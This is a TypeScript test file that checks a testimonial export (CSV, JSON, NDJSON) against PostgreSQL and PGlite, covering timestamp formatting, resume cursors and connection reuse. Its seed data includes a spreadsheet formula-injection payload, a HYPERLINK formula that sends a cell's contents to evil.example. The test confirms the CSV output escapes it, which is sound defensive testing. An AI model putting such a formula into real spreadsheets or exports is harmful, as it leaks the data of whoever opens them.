import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportChunks, exportChunksOfBatches, EXPORT_FORMATS, encodeCursor, type ExportFormat } from '../../lib/advocacy/testimonial-export.ts';
import type { Database } from '../../lib/store/database.ts';
import { migrate } from '../../lib/store/migrate.ts';
import { openPgliteDatabase } from '../../lib/store/pglite-database.ts';
import { openPostgresDatabase } from '../../lib/store/postgres-database.ts';
import { createTenantRepository } from '../../lib/store/tenant-repository.ts';
import { createTestimonialRepository, type ExportFilter, type ExportRow } from '../../lib/store/testimonial-repository.ts';
import { createTenant } from '../../lib/tenants/create-tenant.ts';
import { createTestDatabase, type TestDatabase } from '../support/postgres.ts';

/**
 * The store formats the export's cells itself (timestamps as ISO text, scopes as JSON), so the
 * driver builds no Date per cell. What leaves must be byte for byte what the export wrote when the
 * driver parsed every cell and JavaScript formatted it: that is the oracle here, fed the same rows
 * read the old way, for every format, cells chosen where the two could differ.
 */
interface Seeded {
  readonly first: string | null;
  readonly last: string | null;
  readonly form: 'full_name' | 'first_name_last_initial' | 'first_name' | 'anonymous';
  readonly quote: string;
  readonly score: string | null;
  readonly products: unknown[];
  readonly scopes: string[];
  /** PostgreSQL timestamptz input. */
  readonly submitted: string;
  readonly reviewed: string;
  readonly consented: string;
}

const product = (title: string, productId: string | null = '921728736', sku: string | null = 'TEAPOT-1') => ({ productId, variantId: null, sku, title });

const SEEDED: readonly Seeded[] = [
  { first: 'Ada', last: 'Lovelace', form: 'full_name', quote: 'Lovely teapot.', score: '10', products: [product('Teapot')], scopes: ['website'], submitted: '2026-11-01T10:00:00Z', reviewed: '2026-11-02T10:00:00.123Z', consented: '2026-11-01T10:00:00.5Z' },
  { first: null, last: null, form: 'first_name_last_initial', quote: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', score: null, products: [], scopes: ['website', 'social', 'ads'], submitted: '2026-11-01T10:00:00.123999Z', reviewed: '2026-11-01T23:59:59.999999Z', consented: '2026-02-28T12:00:00.000001Z' },
  { first: 'Zoë', last: 'ōtsuka', form: 'first_name_last_initial', quote: 'Said "wow",\r\nthen\nagain, 😀 東京', score: '9.50', products: [product('Mug "Large"; blue', null, null), product('＋Cup', '1', '')], scopes: ['social'], submitted: '1969-12-31T23:59:59.999500Z', reviewed: '1970-01-01T00:00:00.0005Z', consented: '1900-06-01T12:00:00.1234Z' },
  { first: 'Alan', last: 'Turing', form: 'anonymous', quote: '\rCarriage return start, ＝ and ＠', score: '7', products: [product('Kettle')], scopes: ['website', 'social'], submitted: '2026-03-29T01:30:00.042+01', reviewed: '2026-10-25T02:30:00.7Z', consented: '2026-11-01T10:00:00Z' },
];

/** Years PGlite's own driver misread as Dates (0–99 as 19xx/20xx, none BC): the export reads no Date from it any more. */
const ANCIENT: readonly Seeded[] = [
  { first: '  ', last: '😀x', form: 'full_name', quote: '+1 best shop', score: '-3', products: [product('@SUM(1+1)')], scopes: ['ads'], submitted: '0005-03-01T00:00:00.5Z', reviewed: '12026-01-01T00:00:00.25Z', consented: '0002-01-01T00:00:00.0015Z BC' },
  { first: 'Grace', last: null, form: 'first_name', quote: '-2 problems\t\u0001', score: '0', products: [product('\tTabbed'), product('Second', '2', 'SKU-2')], scopes: ['website'], submitted: '9999-12-31T23:59:59.999999Z', reviewed: '0001-01-01T00:00:00Z', consented: '2026-11-01T10:00:00+05:45' },
];

const insertSeeded = (db: Database, tenantId: string, row: Seeded, position: number) =>
  db.query(
    `INSERT INTO testimonials (id, tenant_id, feedback_id, customer_key, first_name, last_name, quote, language, score, scale, products,
       verified_purchase, incentivised, submitted_at, approval, reviewed_at, export_position, consent_id, consent_granted, consent_wording,
       consent_wording_version, consent_locale, consent_scopes, display_name_form, consent_recorded_at)
     VALUES ($1, $2, $1, 'c:' || $1, $3, $4, $5, 'en', $6::numeric, 'nps', $7::jsonb, $8, $9, $10::timestamptz, 'approved', $11::timestamptz, $12::bigint, $12::bigint,
       true, 'I agree, "as written".', 'testimonial-2026-11', 'de-CH', $13::text[], $14, $15::timestamptz)`,
    [`tm_${position}`, tenantId, row.first, row.last, row.quote, row.score, JSON.stringify(row.products), position % 2 === 0, position % 3 === 0, row.submitted, row.reviewed, String(position), row.scopes, row.form, row.consented],
  );

/** The rows as the export read them before: every cell parsed by the driver (Dates, a text[]). */
const rowsTheOldWay = (db: Database, tenantId: string, afterPosition: string) =>
  db.query<ExportRow>(
    `SELECT id, export_position::text AS export_position, quote, first_name, last_name, display_name_form, score::text AS score, scale, language,
       products, verified_purchase, incentivised, submitted_at, reviewed_at, consent_scopes, consent_wording, consent_wording_version,
       consent_locale, consent_recorded_at FROM testimonials WHERE tenant_id = $1 AND export_position > $2::bigint ORDER BY export_position`,
    [tenantId, afterPosition],
  );

const text = async (chunks: AsyncIterable<string>) => {
  let whole = '';
  for await (const chunk of chunks) whole += chunk;
  return whole;
};

async function* each<T>(items: readonly T[]) {
  yield* items;
}

const everything = (afterPosition = '0'): ExportFilter => ({ since: null, until: null, minScore: null, product: null, scope: null, afterPosition });

describe.each(['postgres', 'pglite'] as const)('the export cells the store formats (%s)', (store) => {
  let database: TestDatabase | undefined;
  let db: Database;

  beforeAll(async () => {
    if (store === 'postgres') {
      database = await createTestDatabase('testimonial_export_rows');
      // A session zone with a 45-minute offset, and one with seconds in its offsets before 1937:
      // the text PostgreSQL writes must be UTC whatever the session's zone.
      const admin = new pg.Client({ connectionString: database.url });
      await admin.connect();
      await admin.query(`ALTER DATABASE "${database.name}" SET TimeZone TO 'Asia/Kathmandu'`);
      await admin.end();
    }
    db = database ? openPostgresDatabase(database.url) : await openPgliteDatabase(undefined);
    if (!database) await db.exec(`SET TimeZone TO 'Europe/Amsterdam'`);
    await migrate(db);
    await createTenant({ id: 'acme', platform: 'shopify', webhookSecret: 's' }, { tenants: createTenantRepository(db) });
    await createTenant({ id: 'ancient', platform: 'shopify', webhookSecret: 's' }, { tenants: createTenantRepository(db) });
    for (const [index, row] of SEEDED.entries()) await insertSeeded(db, 'acme', row, index + 1);
    for (const [index, row] of ANCIENT.entries()) await insertSeeded(db, 'ancient', row, 100 + index);
  });
  afterAll(async () => {
    await db?.close();
    await database?.drop();
  });

  it.each(EXPORT_FORMATS)('%s: byte for byte what the export wrote from driver-parsed rows', async (format: ExportFormat) => {
    for (const tenantId of store === 'postgres' ? ['acme', 'ancient'] : ['acme']) {
      // Prepare
      const oracle = await text(exportChunks(format, each(await rowsTheOldWay(db, tenantId, '0'))));
      // Act
      // (batches of one: the PostgreSQL cursor reads ahead from the second; of three: a boundary mid-way)
      for (const batchSize of [1, 3, 500]) {
        const exported = await text(exportChunksOfBatches(format, createTestimonialRepository(db).exportBatches(tenantId, everything(), batchSize)));
        // Assess: the same bytes
        expect(exported).toBe(oracle);
      }
    }
    const acme = await text(exportChunksOfBatches(format, createTestimonialRepository(db).exportBatches('acme', everything(), 3)));
    for (const index of SEEDED.keys()) expect(acme).toContain(`tm_${index + 1}`);
    if (format === 'csv') expect(acme).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
  });

  it('timestamps: milliseconds kept or cut (never rounded), years outside 0001–9999 and before 1970 as toISOString prints them', async () => {
    // Act
    const instants = async (tenantId: string) =>
      (
        JSON.parse(await text(exportChunksOfBatches('json', createTestimonialRepository(db).exportBatches(tenantId, everything())))) as {
          testimonials: { submittedAt: string; approvedAt: string; consent: { grantedAt: string } }[];
        }
      ).testimonials.map((row) => [row.submittedAt, row.approvedAt, row.consent.grantedAt]);
    // Assess
    expect(await instants('acme')).toEqual([
      ['2026-11-01T10:00:00.000Z', '2026-11-02T10:00:00.123Z', '2026-11-01T10:00:00.500Z'],
      ['2026-11-01T10:00:00.123Z', '2026-11-01T23:59:59.999Z', '2026-02-28T12:00:00.000Z'],
      ['1969-12-31T23:59:59.999Z', '1970-01-01T00:00:00.000Z', '1900-06-01T12:00:00.123Z'],
      ['2026-03-29T00:30:00.042Z', '2026-10-25T02:30:00.700Z', '2026-11-01T10:00:00.000Z'],
    ]);
    expect(await instants('ancient')).toEqual([
      ['0005-03-01T00:00:00.500Z', '+012026-01-01T00:00:00.250Z', '-000001-01-01T00:00:00.001Z'],
      ['9999-12-31T23:59:59.999Z', '0001-01-01T00:00:00.000Z', '2026-11-01T04:15:00.000Z'],
    ]);
  });

  it('the resume cursor of a row gives exactly the rows after it, in every format, batch boundaries included', async () => {
    // Prepare: the cursor the export handed out with the third row
    const whole = (await text(exportChunksOfBatches('ndjson', createTestimonialRepository(db).exportBatches('acme', everything(), 2)))).trim().split('\n');
    const cursor = (JSON.parse(whole[2] ?? '{}') as { cursor: string }).cursor;
    expect(cursor).toBe(encodeCursor('3'));
    for (const format of EXPORT_FORMATS) {
      // Act
      const resumed = await text(exportChunksOfBatches(format, createTestimonialRepository(db).exportBatches('acme', everything('3'), 1)));
      // Assess
      expect(resumed).toBe(await text(exportChunks(format, each(await rowsTheOldWay(db, 'acme', '3')))));
    }
    expect((await text(exportChunksOfBatches('ndjson', createTestimonialRepository(db).exportBatches('acme', everything('3'), 1)))).trim().split('\n')).toEqual(whole.slice(3));
  });

  it('an export abandoned while the next batch is being read leaves its connection fit for the next query', async () => {
    // Prepare: one connection only, so a connection left mid-cursor would stall or fail what follows
    const single = database ? openPostgresDatabase(database.url, { max: 1 }) : db;
    try {
      const seen: string[] = [];
      // Act: the client goes away after two rows, batches of one (a read ahead is in flight)
      for await (const batch of createTestimonialRepository(single).exportBatches('acme', everything(), 1)) {
        seen.push(...batch.map((row) => row.id));
        if (seen.length === 2) break;
      }
      // Assess: the next export on the same pool is whole
      expect(seen).toEqual(['tm_1', 'tm_2']);
      const again = (await text(exportChunksOfBatches('ndjson', createTestimonialRepository(single).exportBatches('acme', everything(), 1)))).trim().split('\n');
      expect(again.map((line) => (JSON.parse(line) as { id: string }).id)).toEqual(['tm_1', 'tm_2', 'tm_3', 'tm_4']);
    } finally {
      if (single !== db) await single.close();
    }
  });
});
